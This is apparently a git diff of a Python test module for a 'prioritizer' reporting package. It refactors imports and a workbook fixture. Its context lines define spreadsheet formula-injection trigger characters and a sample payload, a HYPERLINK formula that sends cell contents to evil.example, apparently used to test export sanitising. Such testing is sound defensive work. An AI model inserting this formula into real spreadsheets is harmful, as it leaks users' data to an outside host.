@@ -15,19 +15,18 @@ from hypothesis import strategies as st
 from office_support import page_count, to_pdf
 from openpyxl import load_workbook
 
-from prioritizer import cells
-from prioritizer import views as V
+from prioritizer import cells, scenario
 from prioritizer.charts.ranking import ranking_bar
 from prioritizer.charts.style import ChartMeta
-from prioritizer.cli import ranked_table
+from prioritizer.data.reading import read_table
 from prioritizer.errors import InputError
-from prioritizer.load import read_table
 from prioritizer.pipeline import run_scoring
 from prioritizer.report import columns
 from prioritizer.report.export import sanitise_frame, to_csv_bytes, workbook_bytes
 from prioritizer.report.pack import briefing_pack
 from prioritizer.report.summary import markdown_to_html, summary_text
 from prioritizer.report.tables import compare_allocations, compare_rankings, scenario_settings_frame
+from prioritizer.report.view_tables import ranked_table, workbook_sheets
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -373,9 +372,9 @@ def test_briefing_pack_contents(scores):
 @pytest.fixture(scope="module")
 def full_workbook() -> bytes:
     dataset, profile, result = run_scoring()
-    scen = V.default_scenario(profile)
+    scen = scenario.default_scenario(profile)
     basis = columns.priority_basis_kind(result.scores["priority_basis"])
-    return workbook_bytes(V.workbook_sheets(ranked_table(result.scores), scen, dataset),
+    return workbook_bytes(workbook_sheets(ranked_table(result.scores), scen, dataset),
                             {"Scenario": "Print test", "Marking": "UNCLASSIFIED"}, priority_basis=basis)
 
 
